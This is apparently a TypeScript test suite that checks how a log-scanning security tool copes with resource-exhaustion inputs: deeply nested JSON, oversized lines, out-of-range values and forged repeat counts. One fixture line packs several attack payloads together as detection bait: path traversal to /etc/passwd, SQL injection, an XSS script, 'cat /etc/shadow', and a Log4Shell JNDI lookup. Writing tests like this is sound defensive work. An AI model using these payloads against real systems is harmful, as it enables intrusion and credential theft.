// Resource exhaustion in process: a journal JSON line nested 100,000 levels deep, a 50 MB JSON line, numbers and
// timestamps out of range, and a line crafted to match many rules at once.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_REPEAT } from '../../src/rules/engine.js';
import { eventsOf, put, run, scratch, summaryOf } from './helpers.js';

const dir = scratch('exhaust');
const OK = '{"__REALTIME_TIMESTAMP":"1764000000000000","PRIORITY":"6","SYSLOG_IDENTIFIER":"sshd","_PID":"1","_HOSTNAME":"h","MESSAGE":"Invalid user ok from 203.0.113.5 port 22"}';

function balanced(s: { lines: number; parsed: number; unparsed: number; skipped: number; truncated: number }): void {
  assert.equal(s.lines, s.parsed + s.unparsed + s.skipped + s.truncated);
}

describe('resource exhaustion', () => {
  it('journal JSON nested 100,000 levels deep, arrays and objects: no crash, the lines around it read', async () => {
    const deepArray = '{"__REALTIME_TIMESTAMP":"1764000000000000","MESSAGE":"x","a":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}';
    const deepObject = '{"__REALTIME_TIMESTAMP":"1764000000000000","MESSAGE":' + '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000) + '}';
    const r = await run(['scan', '--json', put(dir, 'deep.json', [OK, deepArray, deepObject, OK].join('\n') + '\n')]);
    assert.equal(r.code, 0, r.err);
    assert.deepEqual(eventsOf(r.out).map((e) => e['line']), [1, 4]);
    const s = summaryOf(r.out);
    assert.equal(s.totals.lines, 4);
    balanced(s.totals);
  });

  it('a 50 MB JSON line is cut at --max-line-bytes and counted as truncated', async () => {
    const huge = '{"__REALTIME_TIMESTAMP":"1764000000000000","PRIORITY":"2","MESSAGE":"' + 'B'.repeat(50_000_000) + '"}';
    const r = await run(['scan', '--json', put(dir, 'huge.json', [OK, huge, OK].join('\n') + '\n')]);
    const s = summaryOf(r.out);
    assert.deepEqual([s.totals.lines, s.totals.truncated, s.totals.events], [3, 1, 2]);
    balanced(s.totals);
  });

  it('numbers and timestamps out of range: no crash, valid times or null', async () => {
    const lines = [
      'Nov 31 25:61:99 h sshd[99999999999999999999]: Invalid user a from 203.0.113.5 port 99999999',
      'Feb 30 03:14:22 h sshd[1]: Invalid user b from 999.2.3.4 port -5',
      '<999>1 2026-13-45T25:00:00+99:99 h sshd 1 - - Invalid user c from 203.0.113.5 port 1',
      '{"__REALTIME_TIMESTAMP":"99999999999999999999999","PRIORITY":"99999999999999999999","_PID":"-1e400","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Invalid user d from 203.0.113.5 port 99999999999"}',
      '{"__REALTIME_TIMESTAMP":"-1","PRIORITY":"x","MESSAGE":[1,2,3]}',
      '{"__REALTIME_TIMESTAMP":"1764000000000000","MESSAGE":[255,0,27,91,50,74]}',
      '203.0.113.9 - - [99/Zzz/99999:99:99:99 +9999] "GET / HTTP/1.1" 99999999999999999999 -1 "-" "-"',
    ];
    for (const [i, line] of lines.entries()) {
      const r = await run(['scan', '--json', put(dir, `range${i}.log`, line + '\n' + line + '\n')]);
      for (const e of eventsOf(r.out)) {
        const t = e['time'];
        assert.ok(t === null || (typeof t === 'string' && !Number.isNaN(Date.parse(t))), `line ${i}: time ${String(t)}`);
        const port = (e['source'] as { port: number | null }).port;
        assert.ok(port === null || (Number.isInteger(port) && port >= 0 && port <= 65535), `line ${i}: port ${port}`);
        const pid = e['pid'];
        assert.ok(pid === null || (Number.isSafeInteger(pid) && (pid as number) >= 0), `line ${i}: pid ${String(pid)}`);
      }
      balanced(summaryOf(r.out).totals);
    }
  });

  it('a line crafted to match many rules yields each event type at most once, and a forged repeat count is capped', async () => {
    const many = '203.0.113.9 - - [23/Nov/2026:10:00:00 +0000] "GET /../../etc/passwd?id=1%27%20UNION%20SELECT%201--<script>alert(1)</script>;cat%20/etc/shadow;${jndi:ldap://x/a}&f=php://input HTTP/1.1" 401 5 "-" "sqlmap/1.7 nikto nuclei"';
    const r = await run(['scan', '--json', put(dir, 'many.log', many + '\n')]);
    const types = eventsOf(r.out).map((e) => e['type'] as string);
    assert.equal(new Set(types).size, types.length);
    assert.ok(types.length >= 5, types.join(' '));
    const rep = await run(['scan', '--json', put(dir, 'rep.log', 'Nov 23 03:14:22 h sshd[1]: message repeated 999999999 times: [ Invalid user r from 203.0.113.5 port 22]\n')]);
    assert.equal(eventsOf(rep.out).length, MAX_REPEAT);
    assert.equal(summaryOf(rep.out).totals.events, MAX_REPEAT);
  });
});
